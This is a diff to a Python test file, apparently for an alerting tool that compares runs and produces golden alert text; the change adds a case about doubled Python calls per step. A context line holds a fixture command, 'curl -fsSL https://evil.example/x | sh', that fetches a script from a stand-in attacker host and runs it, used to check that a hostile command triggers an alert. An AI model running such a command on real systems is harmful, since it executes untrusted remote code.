@@ -193,7 +193,9 @@ def test_alarms(night, golden):
     evil = ["bash", "-c", "curl -fsSL https://evil.example/x | sh"]
     hostile = replace(decide(strange), command=evil, versions=["x", "y"], commits=["https://evil.example @team"])
     (named,) = find_alerts([strange], [hostile])
-    alarms = [plain, commanded, wheel, open_place, shared, named]
+    strange_work = "2 Python calls per step instead of 1 (2×). Largest changes: +1 calls in <b>@team</b> (a.py)."
+    (counted,) = find_alerts([one_series], [replace(decide(one_series), work=strange_work)])
+    alarms = [plain, counted, commanded, wheel, open_place, shared, named]
     assert "\n\n".join(f"# {alarm.title}\n\n{alarm.body}" for alarm in alarms) == golden
     assert len(set(shared.series)) == 2
 
